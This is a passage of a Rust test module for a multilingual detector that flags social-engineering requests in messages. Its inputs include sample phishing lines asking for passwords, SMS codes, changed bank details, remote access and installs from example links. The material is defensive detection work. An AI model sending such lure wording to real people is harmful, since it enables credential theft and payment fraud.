/// more); a bare forward is its own words.
pub fn own_words(text: &str) -> &str {
    match history_cut(&text.to_ascii_lowercase()) {
        Some(at) => &text[..at],
        None => text,
    }
}

/// Where the quoted history of a lowercased part starts, when the writer
/// wrote something above it: eight words are enough.
pub(crate) fn history_cut(lower: &str) -> Option<usize> {
    history_start(lower).filter(|&at| {
        lower[..at]
            .split([' ', '\n', '\r', '\t', '\u{1}'])
            .filter(|w| !w.is_empty())
            .nth(7)
            .is_some()
    })
}

/// The language code of a slot, for evidence.
#[allow(dead_code)]
pub(crate) fn language_name(lang: Lang) -> &'static str {
    LANGUAGES[lang]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::fold;

    fn read(text: &str) -> Vec<RiskCategory> {
        let rec = Recogniser::new(Lexicon::default_lexicon().unwrap());
        let folded = fold(text);
        let mut v: Vec<RiskCategory> = rec
            .recognise(
                &folded,
                std::slice::from_ref(&(0..folded.len())),
                &Marks::default(),
                &["+18885550100".to_owned()],
                0,
            )
            .found
            .into_iter()
            .filter(|r| !r.as_usual)
            .map(|r| r.category)
            .collect();
        v.sort();
        v
    }

    /// The recogniser's reading of `text`: its clauses and word classes.
    fn explained(text: &str) -> String {
        let rec = Recogniser::new(Lexicon::default_lexicon().unwrap());
        let folded = fold(text);
        rec.explain(
            &folded,
            std::slice::from_ref(&(0..folded.len())),
            &Marks::default(),
        )
    }

    #[test]
    fn spanish_asks_a_familiar_reader_in_the_present() {
        assert!(
            read("Me he bloqueado el usuario del portal. ¿Me lo desbloqueas y me mandas una contraseña temporal?")
                .contains(&RiskCategory::CredentialReset)
        );
        // The writer's own doings are no ask.
        assert_eq!(read("Me alegra que lo menciones."), vec![]);
        assert_eq!(
            read("Nosotros usamos copias inmutables en el proveedor de backup."),
            vec![]
        );
    }

    #[test]
    fn someone_asked_with_a_pronoun_between_or_before_the_modal() {
        for text in [
            "Könnte mir jemand Civil 3D auf meinen Laptop installieren?",
            "Est-ce que quelqu'un peut installer le logiciel de topographie sur le PC du chantier ?",
        ] {
            assert_eq!(read(text), vec![RiskCategory::SoftwareInstall], "{text}");
        }
        assert_eq!(
            read("¿Alguien puede darme acceso a la carpeta de obras?"),
            vec![RiskCategory::AccessGrant]
        );
        // Said of nobody, or told without a question: no ask.
        assert_eq!(
            read("Niemand konnte mir die Software installieren."),
            vec![]
        );
        assert_eq!(
            read("Quelqu'un peut installer le logiciel depuis le portail en libre-service."),
            vec![]
        );
    }

    #[test]
    fn the_reader_as_subject_is_not_the_owner_of_the_object() {
        // "u reset pw": the reader is asked, the password is someone's.
        assert_eq!(
            read("locked out since this morning, can u reset pw and text me a temp one"),
            vec![RiskCategory::CredentialReset]
        );
        // "your password" is the reader's own to look after.
        assert_eq!(
            read("Your password expires soon. You can reset your password here."),
            vec![]
        );
    }

    #[test]
    fn an_account_opened_for_someone_is_access() {
        assert_eq!(
            read("hi can you set up an account for Dan Whitfield, starts Monday as site engineer"),
            vec![RiskCategory::AccessGrant]
        );
        assert_eq!(
            read("Könnten Sie bitte ein Konto für Frau Maier anlegen?"),
            vec![RiskCategory::AccessGrant]
        );
        // The writer's own account switched on.
        assert_eq!(
            read("Could you enable my named account for the window tonight?"),
            vec![RiskCategory::AccessGrant]
        );
        assert_eq!(
            read("Please activate your account by following the link."),
            vec![]
        );
        // An account the reader opens for himself on some site, and an
        // account number in a payment run, are not access for someone.
        assert_eq!(
            read("Please create an account on our portal to see the agenda."),
            vec![]
        );
        assert!(
            !read(
                "Please include the top-up in Thursday's payment run, to the account we always use."
            )
            .contains(&RiskCategory::AccessGrant)
        );
    }

    #[test]
    fn needs_in_the_third_person_impersonal_and_around_an_aside() {
        // "sie braucht": she needs (the reader would be "Sie brauchen").
        assert_eq!(
            read(
                "Ab Montag verstärkt uns Frau Kühn. Sie braucht die gleichen Rollen wie Mia Hoffmann."
            ),
            vec![RiskCategory::AccessGrant]
        );
        assert_eq!(read("Sie brauchen dafür keine neuen Rollen."), vec![]);
        // "il me faudrait": the writer's need, in the impersonal.
        assert_eq!(
            read("Il me faudrait un export de toutes les commandes de novembre au format CSV."),
            vec![RiskCategory::DataExport]
        );
        // The aside does not push the object out of the need's reach.
        assert_eq!(
            read(
                "Necesito que a Jorge Castillo (nuevo en planificación de tripulaciones, Madrid) le deis el rol de planificador."
            ),
            vec![RiskCategory::AccessGrant]
        );
        // A list of people the writer needs is data going out.
        assert_eq!(
            read("Para la auditoría necesito un listado de toda la plantilla con nombre y puesto."),
            vec![RiskCategory::DataExport]
        );
    }

    #[test]
    fn spanish_present_modal_and_familiar_imperative_units() {
        assert_eq!(
            read(
                "Hola Sophie, me puedes cambiar la cuenta de la nómina. Nueva: ES21 1465 0100 7220 3087 6293"
            ),
            vec![RiskCategory::PaymentChange]
        );
        assert_eq!(read("Puede que el portal tarde un poco en cargar."), vec![]);
        assert!(
            read("Inicia sesión con tu correo y contraseña de la empresa para acceder:")
                .contains(&RiskCategory::CredentialReset)
        );
        // "Te pido" is "le pido" between colleagues.
        assert_eq!(
            read(
                "Buenos días Marta, te pido aprobar la transferencia de 8.000 € al proveedor de limpieza."
            ),
            vec![RiskCategory::PaymentChange]
        );
    }

    #[test]
    fn a_quoted_new_destination_is_mentioned_not_announced() {
        assert_eq!(
            read(
                "Remember: mails about \"new bank details\" are always checked by accounts payable with a callback to the number we keep."
            ),
            vec![]
        );
        assert_eq!(
            read("Please note our new bank details below."),
            vec![RiskCategory::PaymentChange]
        );
    }

    #[test]
    fn the_readers_own_bank_details_handed_to_the_writer() {
        assert_eq!(
            read("To get the overpayment back, just reply with your bank details."),
            vec![RiskCategory::PaymentChange]
        );
        // Told where the money went, nothing asked.
        assert_eq!(
            read("The refund went to your bank details on file last Tuesday."),
            vec![]
        );
    }

    #[test]
    fn the_reader_told_he_has_won() {
        assert_eq!(
            read("So you have won a weekend for two in our autumn draw."),
            vec![RiskCategory::RewardLure]
        );
        // Conceding a point wins nothing.
        assert_eq!(read("Fine, you win, we keep the old layout."), vec![]);
    }

    #[test]
    fn an_imperative_joined_to_a_polite_ask_is_asked_too() {
        assert_eq!(
            read("Please lock his login and give Anna Roth read access to his mailbox."),
            vec![RiskCategory::AccessGrant]
        );
        // How-to prose: an imperative after an imperative stays prose.
        assert_eq!(
            read("Open the sharing dialog and give the team read access."),
            vec![]
        );
    }

    #[test]
    fn a_passive_question_asks_the_reader() {
        assert_eq!(
            read("Could our new analyst be given read access to the finance mailbox?"),
            vec![RiskCategory::AccessGrant]
        );
        // The writer asking for himself is left alone.
        assert_eq!(
            read("Can I be added to the newsletter of your user group?"),
            vec![]
        );
        // A statement in the passive tells, it does not ask.
        assert_eq!(
            read("Your colleague can be given access by the owner of the mailbox."),
            vec![]
        );
    }

    #[test]
    fn a_purpose_before_the_order_without_a_comma() {
        assert!(
            read("Para acelerar el alta envíanos: copia de tu pasaporte y el número de cuenta para la nómina.")
                .contains(&RiskCategory::DataExport)
        );
        // A purpose followed by the writer's own doing asks nothing.
        assert_eq!(
            read("Para acelerar el alta te enviamos mañana el contrato."),
            vec![]
        );
    }

    #[test]
    fn thanks_in_advance_is_courtesy_not_an_advance_payment() {
        // A signature after a request for a satellite link repair.
        assert_eq!(
            read(
                "Pouvez-vous vérifier l'imprimante ? Merci d'avance, Paul Marchand, chef de projet pays"
            ),
            vec![]
        );
        assert_eq!(read("Vielen Dank im Voraus, Jonas"), vec![]);
    }

    #[test]
    fn articles_are_not_read_as_another_languages_words_or_as_pronouns() {
        let shown = explained("¿Me puedes resetear la contraseña del portal?");
        // Spanish "del" is no French "délai" (urgent).
        assert!(shown.contains("  del<article>  "), "{shown}");
        // "la ficha": an article before a noun names nothing said before.
        assert_eq!(
            read("Te adjunto el certificado nuevo. ¿Puedes actualizar la ficha de Marta?"),
            vec![]
        );
    }

    #[test]
    fn a_practice_described_is_no_payment_asked() {
        // A list post comparing how teams handle bank changes.
        assert_eq!(
            read(
                "Ours currently: call back to the number in the vendor master, second person approves in the ERP, first payment to the new account is held 5 days."
            ),
            vec![]
        );
        // A reminder of the rule, headed "how we handle them".
        assert_eq!(
            read("Supplier bank changes - how we handle them from now on"),
            vec![]
        );
        // Still asked: the reader pays to the new account.
        assert!(
            read("Please pay the invoice to our new account below today.")
                .contains(&RiskCategory::PaymentChange)
        );
    }

    #[test]
    fn a_french_imperative_with_its_pronoun() {
        assert!(
            read("Pour le recevoir, connectez-vous avec vos identifiants avant le 5 décembre : https://rewards.example/noel")
                .contains(&RiskCategory::CredentialReset)
        );
    }

    #[test]
    fn a_file_of_pay_sent_out_is_an_export_and_a_file_export_a_noun() {
        assert_eq!(
            read(
                "Peux-tu m'envoyer sur cette adresse le fichier paie de novembre (noms, salaires, IBAN) ?"
            ),
            vec![RiskCategory::DataExport]
        );
        assert_eq!(
            read("Join our team for a walkthrough: faster payment file export for payroll teams."),
            vec![]
        );
    }

    #[test]
    fn a_renewal_not_wanted_is_a_charge_to_cancel() {
        assert!(
            read("Ihre Jahreslizenz wurde automatisch verlängert. Es wurden 899,00 EUR von Ihrem Konto abgebucht. Falls Sie diese Verlängerung nicht wünschen, rufen Sie innerhalb von 24 Stunden unsere Hotline an: +1 888 555 0100")
                .contains(&RiskCategory::CallbackBait)
        );
        // The call as the condition of a refund, not an order.
        assert!(
            read("Your card was billed EUR 2,190.00 for 4 tablets. Not you? Our billing desk can cancel the order and reverse the charge if you phone before 18:00: +1 888 555 0100.")
                .contains(&RiskCategory::CallbackBait)
        );
        // A support line offered "if you have questions" is no bait.
        assert!(
            !read("Your order has shipped. If you have questions, call us at +1 888 555 0100.")
                .contains(&RiskCategory::CallbackBait)
        );
        // "EUR" is no "eure": a currency, not the reader's.
        let shown = explained("Es wurden 899,00 EUR abgebucht.");
        assert!(!shown.contains("reader_own"), "{shown}");
    }

    #[test]
    fn a_quoted_button_does_no_grammar() {
        // "Help someone" names a button; its "someone" reports nobody.
        assert!(
            read("Please start Quick Assist, choose \"Help someone\", and tell us the code shown.")
                .contains(&RiskCategory::RemoteAccess)
        );
    }

    #[test]
    fn a_verb_holding_its_pronoun_takes_up_what_was_named() {
        // "léemelo": read it to me, the code of the sentence before.
        assert!(
            read("Te va a llegar un SMS con un código. Léemelo y así verifico que eres tú.")
                .contains(&RiskCategory::MfaReset)
        );
    }

    #[test]
    fn a_record_to_update_is_not_the_usual_account() {
        // "el registro" is no "registrado" (the account on file).
        assert!(
            read("Por favor, envíenos los nuevos datos bancarios para actualizar el registro.")
                .contains(&RiskCategory::PaymentChange)
        );
    }

    #[test]
    fn a_need_without_its_subject() {
        // German drops the "ich" of a need that opens its clause.
        assert_eq!(
            read("Hi, brauche für die neue Kollegin Zugriff auf die Gruppe Einkauf."),
            vec![RiskCategory::AccessGrant]
        );
        // "Whoever wants to change his password ...": someone else's wish.
        assert_eq!(
            read("Wer sein Passwort ändern möchte, macht das im Self-Service-Portal."),
            vec![]
        );
    }

    #[test]
    fn asked_that_someone_receive_access() {
        assert_eq!(
            read(
                "Could she please get the same access as Conor: the Underwriting group and the read role?"
            ),
            vec![RiskCategory::AccessGrant]
        );
        // Told that one will get access: no ask.
        assert_eq!(
            read("You will get access to the new portal on Monday."),
            vec![]
        );
    }

    #[test]
    fn the_writers_problem_is_what_a_later_pronoun_names() {
        assert!(
            read(
                "No puedo entrar en el correo, la contraseña ha caducado. ¿Me la podéis resetear?"
            )
            .contains(&RiskCategory::CredentialReset)
        );
        assert!(
            read("Cambié de teléfono y ya no puedo validar el MFA. ¿Me lo reseteáis?")
                .contains(&RiskCategory::MfaReset)
        );
        // The reader asked to reset someone's password, not told to look
        // after his own.
        assert!(
            read("Le code PIN du compte de la borne a expiré hier soir. Vous pouvez le réinitialiser ?")
                .contains(&RiskCategory::CredentialReset)
        );
        assert!(
            read("I mistyped the PIN of the kiosk login too often. Can you unlock it?")
                .contains(&RiskCategory::CredentialReset)
        );
        assert_eq!(
            read("Your password expires on Friday. Please reset it in the portal."),
            vec![]
        );
        // A negated ask is still no antecedent.
        assert_eq!(
            read("We will never ask for your password. Please keep it safe."),
            vec![]
        );
    }

    #[test]
    fn asks_tied_to_a_page() {
        use RiskCategory::*;
        check(&[
            // Paying on a linked page, the amount in the sentence before.
            (
                "A handling charge of EUR 3.10 is still open. Settle it here to release the shipment: https://pay.example/x",
                &[PaymentChange],
            ),
            // "send" is no payment, whatever the amount before.
            (
                "The kit costs $20. Send an email to orders: https://shop.example/",
                &[],
            ),
            // The reader's program to install, linked.
            (
                "To view the statement your computer needs the SecureView plugin: https://view.example/get",
                &[SoftwareInstall],
            ),
            (
                "If you want to invest in software, read https://blog.example/a",
                &[],
            ),
            // Verifying the reader's account named just before.
            (
                "Your mailbox has not been confirmed since the migration. To keep it, verify here: https://mail.example/v",
                &[CredentialReset],
            ),
            (
                "Your mailbox has not been confirmed since the migration.\n\nTo keep it, verify here:\nhttps://mail.example/v",
                &[CredentialReset],
            ),
        ]);
    }

    #[test]
    fn access_asked_for_someone() {
        use RiskCategory::*;
        check(&[
            // German familiar plural imperatives, separable ones too.
            (
                "Bitte gebt ihm Schreibrechte auf das Laufwerk Einkauf.",
                &[AccessGrant],
            ),
            (
                "Bitte richtet ihr einen Zugang zum Reisekostenportal mit der Rolle Prüfer ein.",
                &[AccessGrant],
            ),
            // A need stated for the new starter.
            (
                "Our new analyst joins on Monday. She needs the Finance-Readers group and a VPN role.",
                &[AccessGrant],
            ),
            (
                "Ella empieza el lunes. Necesita acceso a la carpeta de compras.",
                &[AccessGrant],
            ),
            // Someone's need reported without an ask of the reader.
            ("He needs a break after the audit.", &[]),
        ]);
    }

    #[test]
    fn paying_a_given_sum_is_asked() {
        use RiskCategory::*;
        check(&[
            (
                "Could you add invoice 88-412 from Brightwell to Friday's payment batch? USD 12,950.",
                &[PaymentChange],
            ),
            (
                "Bitte die Rechnung 2026-77 (EUR 3.420,00) mit dem nächsten Zahllauf bezahlen.",
                &[PaymentChange],
            ),
            // A report of payments made asks nothing.
            (
                "Done - run released at noon, 41 payments, EUR 388,120 total.",
                &[],
            ),
            // No sum, no payment asked: "the invoice is attached".
            ("Please find the invoice for November attached.", &[]),
        ]);
    }

    #[test]
    fn a_body_asks_in_its_own_name() {
        use RiskCategory::*;
        check(&[
            (
                "Le service des impôts vous demande de nous transmettre la liste complète des employés avant vendredi.",
                &[DataExport, Urgency],
            ),
            // A thing's future is no ask.
            (
                "From Monday the app will ask you to type the number shown on the screen.",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_code_the_message_prints_is_no_ask() {
        use RiskCategory::*;
        check(&[
            (
                "To open the documents, go to the portal and enter the security code: 7QX2M9K4TP",
                &[],
            ),
            (
                "Please enter the security code you received by text message on the page below.",
                &[CredentialReset, MfaReset],
            ),
        ]);
    }

    #[test]
    fn a_statement_of_what_was_done_asks_nothing() {
        // The rulebook's "reset your password" in a ticket's resolution.
        let rules = crate::Rulebook::default_rules();
        let content = crate::MessageContent {
            text_parts: vec![
                "Resolution: you reset your password yourself on the self-service page.".to_owned(),
            ],
            ..crate::MessageContent::default()
        };
        assert!(!crate::assess(&content, &rules).high_risk);
        let content = crate::MessageContent {
            text_parts: vec!["Please reset your password on the page below.".to_owned()],
            ..crate::MessageContent::default()
        };
        assert!(crate::assess(&content, &rules).high_risk);
    }

    #[test]
    fn quoted_words_are_mentioned() {
        // An advisory quoting the script of a scam asks nothing.
        assert_eq!(
            read("Callers typically say: \"please read me the code we just sent you\". Hang up."),
            vec![]
        );
    }

    #[test]
    fn german_separable_verbs_are_read_whole() {
        // "Fügen Sie ... hinzu" is "hinzufügen": an imperative with no
        // "bitte" and no writer, which only the joined verb makes a request.
        assert_eq!(
            read("Fügen Sie den Dienstleister der Gruppe Domänen-Admins hinzu."),
            vec![RiskCategory::AccessGrant]
        );
        assert_eq!(
            read("Fügen Sie den Dienstleister der Gruppe Domänen-Admins."),
            vec![]
        );
    }

    #[test]
    fn a_question_for_a_fact_asks_for_it() {
        assert_eq!(
            read("What is the username and PIN you use for the VPN?"),
            vec![RiskCategory::CredentialReset]
        );
        // The object must follow the question word closely.
        assert_eq!(read("What is your policy on password expiry?"), vec![]);
    }

    #[test]
    fn a_mail_clients_reply_header_starts_the_history() {
        let own = "thanks, that fixed it and the ticket can be closed now. ";
        for header in [
            "from: it desk <desk@x.example>\nsent: monday\nto: me\nsubject: hi\nplease",
            "de : service desk <desk@x.example>\nenvoyé : lundi\nà : moi\nobjet : test",
            "von: it <desk@x.example>\ngesendet: montag\nan: mich\nbetreff: test",
            "de: soporte <desk@x.example>\nenviado: lunes\npara: yo\nasunto: test",
        ] {
            let text = format!("{own}{header}");
            assert_eq!(history_cut(&text), Some(own.len()), "{header}");
        }
        // A sender's field with no date field after it is prose.
        assert_eq!(history_start("mail from: the desk, as usual"), None);
        // Too few words above: a bare forward is read whole.
        let text = "fyi\nFrom: IT Desk <d@x.example>\nSent: Monday";
        assert_eq!(own_words(text), text);
        let text = "Thanks, that fixed it and the ticket can be closed now.\nFrom: IT <d@x.example>\nSent: Monday";
        assert_eq!(
            own_words(text),
            "Thanks, that fixed it and the ticket can be closed now.\n"
        );
    }

    #[test]
    fn iban_checksum() {
        assert!(iban_valid("gb82west12345698765432"));
        assert!(!iban_valid("gb82west12345698765433"));
    }

    #[test]
    fn an_iban_labelled_as_such_counts_whatever_its_check_digits() {
        use RiskCategory::*;
        // The check digits fail; labelled and of Britain's length, it is
        // still a number to pay to.
        assert_eq!(
            read("The updated remittance details are below.\nIBAN GB82 WEST 1234 5698 7654 33"),
            [PaymentChange]
        );
        // Details alone are a letterhead.
        assert_eq!(read("Kind regards\nIBAN GB82 WEST 1234 5698 7654 33"), []);
        // Unlabelled and failing its check digits, it is some other number.
        assert_eq!(
            read("The updated remittance details are below.\nRef GB82 WEST 1234 5698 7654 33"),
            []
        );
    }

    #[test]
    fn english_requests_and_their_negations() {
        use RiskCategory::*;
        assert_eq!(
            read("Could you send me your username and the VPN gateway?"),
            [CredentialReset]
        );
        assert_eq!(read("We will never ask for your password."), []);
        assert_eq!(
            read("Please wire the funds to the account below today."),
            [PaymentChange, Urgency]
        );
        assert_eq!(read("Our bank details have changed."), [PaymentChange]);
        assert_eq!(read("Our bank details remain unchanged."), []);
    }

    /// Checks each text finds exactly `expected` (categories, any order).
    fn check(cases: &[(&str, &[RiskCategory])]) {
        let mut failures = Vec::new();
        for (text, expected) in cases {
            let mut want = expected.to_vec();
            want.sort();
            let got = read(text);
            if got != want {
                failures.push(format!("{text:?}\n    want {want:?}\n    got  {got:?}"));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    #[test]
    fn requests_worded_as_desks_word_them() {
        use RiskCategory::*;
        check(&[
            // A list of systems between the verb and its object.
            (
                "Could you create Outlook, SAP and VPN accounts for Priya from Monday?",
                &[AccessGrant],
            ),
            // A need stated for someone named by title.
            (
                "Herr Albrecht braucht ab morgen Schreibrechte auf dem Laufwerk Vertrieb.",
                &[AccessGrant],
            ),
            (
                "Madame Perrin aura besoin des droits de lecture sur le dossier Achats.",
                &[AccessGrant],
            ),
            // A negated statement under "please note:" is the note, and the
            // opening's act does not skip over it to the next sentence.
            (
                "Bitte lesen Sie: Wir verlangen nie Passwörter oder Kontodaten per E-Mail. \
                 Solche Daten laden Sie nur im Upload hoch.",
                &[],
            ),
            // A numbered list after a need for someone.
            (
                "From Monday he will need:\n1. the Buyer role in the stock system\n2. edit rights on the Purchasing share",
                &[AccessGrant],
            ),
            // A bare order takes its object from the sentence before.
            (
                "Tom und Ana aus dem Lager brauchen Schreibrechte auf den Ordner Inventur. Bitte einrichten.",
                &[AccessGrant],
            ),
            (
                "We revised the password policy last week. Please read.",
                &[],
            ),
            // A program the writer needs on his own machine.
            (
                "Wir bräuchten für die Präsentation nächste Woche ein Zeichenprogramm auf unserem Notebook.",
                &[SoftwareInstall],
            ),
            (
                "I need the new drawing app on my laptop for the fair.",
                &[SoftwareInstall],
            ),
            (
                "Mein Rechner braucht seit dem Update ewig zum Starten.",
                &[],
            ),
            // "Would it be possible to ...?" asks as "could you" does.
            (
                "Would it be possible to install Inkscape on my laptop?",
                &[SoftwareInstall],
            ),
            (
                "Serait-il possible d'installer GIMP sur le poste de Léa ?",
                &[SoftwareInstall],
            ),
            (
                "Wäre es möglich, auf meinem Laptop Inkscape zu installieren?",
                &[SoftwareInstall],
            ),
            (
                "¿Sería posible instalar Inkscape en mi portátil?",
                &[SoftwareInstall],
            ),
            ("Is it possible that the update changed my settings?", &[]),
            // After a colon the negation governs the whole notice.
            (
                "Bitte merken Sie sich: Kennwörter oder Kontodaten verlangen wir niemals per E-Mail.",
                &[],
            ),
            (
                "Bitte senden Sie mir Ihr Passwort, damit Ihr Konto nicht gesperrt wird.",
                &[CredentialReset],
            ),
            // A program handed over as a link.
            (
                "Save it and run it: https://cdn.example.net/tools/Helper-Setup.exe",
                &[SoftwareInstall],
            ),
            (
                "Installieren Sie es bitte über https://dl.example.net/agent.msi?x=1.",
                &[SoftwareInstall],
            ),
            // A list of people with their bank details.
            (
                "Kindly share a list of all suppliers with the IBAN held for each.",
                &[DataExport],
            ),
            // Remote access named the plain way.
            (
                "Merci de nous donner un accès distant à la caisse 2 pendant la pause.",
                &[RemoteAccess],
            ),
            (
                "¿Nos podrían dar acceso a distancia al equipo de recepción?",
                &[RemoteAccess],
            ),
            (
                "Bitte richten Sie uns einen Fernzugang zur Steuerung ein.",
                &[RemoteAccess],
            ),
        ]);
    }

    #[test]
    fn an_address_naming_a_program_is_one() {
        assert!(links_a_program("https://x.example/get/setup.exe"));
        assert!(links_a_program("https://x.example/Tool.MSI.msi?dl=1"));
        assert!(links_a_program("https://x.example/a/run.ps1)."));
        // A browser extension's package and a macOS installer install too.
        assert!(links_a_program("https://x.example/store/helper.crx"));
        assert!(links_a_program("https://x.example/Viewer-2.dmg"));
        assert_eq!(
            read(
                "Install this extension before the survey starts: https://x.example/ext/helper.xpi"
            ),
            vec![RiskCategory::SoftwareInstall]
        );
        assert!(!links_a_program("https://x.example/exe"));
        assert!(!links_a_program("https://x.example/docs/guide.pdf"));
        assert!(!links_a_program("https://x.example/"));
    }

    #[test]
    fn payment_destination_asked_without_its_verb() {
        use RiskCategory::*;
        check(&[
            // The paying verb left out: asked, payments, the account below.
            (
                "Ab Jahresbeginn bitten wir Zahlungen nur noch auf folgendes Konto:\nIBAN DE89 3704 0044 0532 0130 00",
                &[PaymentChange],
            ),
            // A German verb in -eln in its third person: "wechselt" is "wechseln".
            (
                "Wir teilen Ihnen mit, dass unser Verlag zum Quartalsende seine Hausbank wechselt.",
                &[PaymentChange],
            ),
            (
                "Unser Kantinenpächter wechselt zum Jahresende, das Mittagessen bleibt gleich.",
                &[],
            ),
        ]);
    }

    #[test]
    fn needs_of_people_named_beside_their_role() {
        use RiskCategory::*;
        check(&[
            (
                "From Friday our auditors Petra Novak and Sam Idris need read access to the ledger share.",
                &[AccessGrant],
            ),
            (
                "Unsere Praktikanten Jonas Keller und Mia Brandt brauchen ab Montag Zugriff auf das Projektlaufwerk.",
                &[AccessGrant],
            ),
            (
                "Nuestros becarios Pablo Ortega y Nuria Vidal necesitan acceso a la carpeta de proyectos.",
                &[AccessGrant],
            ),
            // Names beside a role, and nothing needed of the reader.
            (
                "Thanks to our electricians Ivo and Rui we need no further visits.",
                &[],
            ),
        ]);
    }

    #[test]
    fn requests_in_four_languages() {
        use RiskCategory::*;
        check(&[
            // English
            (
                "Can you read me the six-digit verification code when I phone you?",
                &[CredentialReset, MfaReset],
            ),
            (
                "I need admin rights on the build server until Friday.",
                &[AccessGrant],
            ),
            (
                "Please add Tom to the finance approvers group.",
                &[AccessGrant],
            ),
            (
                "Kindly disable two-factor authentication on my mailbox, I lost my handset.",
                &[MfaReset],
            ),
            (
                "Please install the attached client on your laptop.",
                &[SoftwareInstall],
            ),
            (
                "Could you accept the remote session so our engineer can look?",
                &[RemoteAccess],
            ),
            (
                "Please send us the list of all employees with their home addresses.",
                &[DataExport],
            ),
            (
                "Please settle invoice 88 to the new account below.",
                &[PaymentChange],
            ),
            (
                "Could you process a same-day transfer of EUR 18,400 to this supplier?",
                &[PaymentChange],
            ),
            // German
            (
                "Könnten Sie mir bitte das Kennwort für das Lagerkonto schicken?",
                &[CredentialReset],
            ),
            (
                "Bitte überweisen Sie 12.000 EUR heute noch auf das unten genannte Konto.",
                &[PaymentChange, Urgency],
            ),
            (
                "Bitte installieren Sie das beigefügte Programm auf Ihrem Rechner.",
                &[SoftwareInstall],
            ),
            ("Unsere Bankverbindung hat sich geändert.", &[PaymentChange]),
            (
                "Bitte fügen Sie mich der Gruppe Einkauf hinzu.",
                &[AccessGrant],
            ),
            // French
            (
                "Pouvez-vous me communiquer votre identifiant et votre mot de passe ?",
                &[CredentialReset],
            ),
            (
                "Veuillez noter notre nouveau RIB pour les prochains règlements.",
                &[PaymentChange],
            ),
            (
                "Merci de m'envoyer la liste des clients avec leurs coordonnées.",
                &[DataExport],
            ),
            (
                "Pourriez-vous réinitialiser la double authentification de mon compte ?",
                &[MfaReset],
            ),
            // Spanish
            (
                "Por favor, envíeme el código que le ha llegado por SMS.",
                &[CredentialReset, MfaReset],
            ),
            (
                "Necesito que me den permisos de administrador en el portátil.",
                &[AccessGrant],
            ),
            (
                "Le rogamos que actualice los datos bancarios del proveedor con la nueva cuenta.",
                &[PaymentChange],
            ),
            (
                "¿Podría instalar la herramienta de acceso remoto adjunta?",
                &[RemoteAccess, SoftwareInstall],
            ),
        ]);
    }

    #[test]
    fn talk_about_risky_things_is_no_request() {
        check(&[
            // Never-ask notices, in each language.
            (
                "IT will never ask you for your password by email or phone.",
                &[],
            ),
            ("Wir werden Sie niemals nach Ihrem Passwort fragen.", &[]),
            ("Nous ne vous demanderons jamais votre mot de passe.", &[]),
            ("Nunca le pediremos su contraseña por correo.", &[]),
            // Hypotheticals and warnings.
            (
                "If someone calls and asks you to install a remote tool, hang up.",
                &[],
            ),
            (
                "Wenn jemand Sie bittet, Geld zu überweisen, rufen Sie uns an.",
                &[],
            ),
            (
                "Attention aux faux courriers annonçant un nouveau RIB.",
                &[],
            ),
            // Announcements, receipts, release notes.
            (
                "The update will be installed automatically tonight; you do not need to do anything.",
                &[],
            ),
            (
                "We have reset your password as requested in ticket 4410.",
                &[],
            ),
            (
                "Thank you for your payment of EUR 240, received on 3 March.",
                &[],
            ),
            (
                "Release 5.2 adds export of audit logs and a new admin role.",
                &[],
            ),
            ("Le paiement de la facture 12 a bien été reçu, merci.", &[]),
            (
                "La actualización se instalará de forma automática el domingo.",
                &[],
            ),
            (
                "Die Rechnung zahlen Sie wie gewohnt auf das bekannte Konto.",
                &[],
            ),
            // Quotation: someone else's words, mentioned.
            (
                "Phishing mails often say \"please send me your password and the code you received\".",
                &[],
            ),
        ]);
    }

    #[test]
    fn signing_in_on_a_linked_page_hands_over_credentials() {
        use RiskCategory::*;
        check(&[
            (
                "Your storage plan needs attention. Log in with your work email to keep your files: https://files.example.net/keep",
                &[CredentialReset],
            ),
            (
                "Bitte bestätigen Sie Ihr Konto über den folgenden Link: https://portal.example.net/k",
                &[CredentialReset],
            ),
            (
                "Veuillez vous reconnecter via ce lien pour garder votre messagerie.",
                &[CredentialReset],
            ),
            (
                "Inicie sesión con su cuenta para ver el documento: https://docs.example.net/v",
                &[CredentialReset],
            ),
            // Spanish "entra / accede / ingresa con ..." is signing in, also
            // after a purpose clause.
            (
                "Para reclamar el cupón, entra con tu usuario y contraseña: https://cupon.example.net/c",
                &[CredentialReset],
            ),
            (
                "Accede con tu correo y contraseña para votar: https://voto.example.net/v",
                &[CredentialReset],
            ),
            // "Ingresar" alone is also paying in: no sign-in.
            (
                "Puede ingresar el importe en la cuenta del club: https://club.example.net/c",
                &[],
            ),
            // The known portal, reached the usual way: nothing new asked,
            // if the page is the usual one (marked `as_usual`; the engine
            // looks at the page's domain).
            (
                "Log in to the payroll portal as usual (https://pay.example.net) to see your payslip.",
                &[],
            ),
            // No page to type anything into.
            (
                "Sign in with your work account; no admin rights are needed.",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_built_deadline_presses_a_high_risk_request() {
        use RiskCategory::*;
        check(&[
            (
                "Please send me the admin password within 2 hours.",
                &[CredentialReset, Urgency],
            ),
            (
                "Kindly wire the funds to the account below by Thursday.",
                &[PaymentChange, Urgency],
            ),
            (
                "Bitte installieren Sie das Programm im Anhang vor Montag auf Ihrem Rechner.",
                &[SoftwareInstall, Urgency],
            ),
            // An everyday ask with a date is planning, not pressure.
            ("Please send the meeting notes by Friday.", &[]),
            // A place, not a deadline.
            (
                "Please wire the funds to the account below in next week's payment run.",
                &[PaymentChange],
            ),
        ]);
    }

    #[test]
    fn help_nobody_asked_for_with_a_help_desk_ask() {
        use RiskCategory::*;
        check(&[
            // The writer will call, and asks for the code the reader gets.
            (
                "I'll phone you shortly from the network team. Please read me the code you receive by text.",
                &[FakeTechSupport, CredentialReset, MfaReset],
            ),
            // A problem found on the reader's machine, and a tool to install.
            (
                "Your laptop is running very slowly. Please install the repair tool attached to this email.",
                &[FakeTechSupport, SoftwareInstall],
            ),
            // A call announced without an ask is no lure.
            (
                "Our technician will call you on Tuesday about the printer.",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_code_sent_to_the_reader_is_secret_whoever_it_is_read_to() {
        use RiskCategory::*;
        check(&[
            (
                "Please read the code that arrives by SMS to the engineer on the line.",
                &[CredentialReset, MfaReset],
            ),
            (
                "Halten Sie das Handy bereit und lesen Sie mir den Code vor.",
                &[CredentialReset, MfaReset],
            ),
            ("Enter the discount code at checkout.", &[]),
        ]);
    }

    #[test]
    fn money_to_a_new_plain_account_or_with_an_amount_aside() {
        use RiskCategory::*;
        check(&[
            (
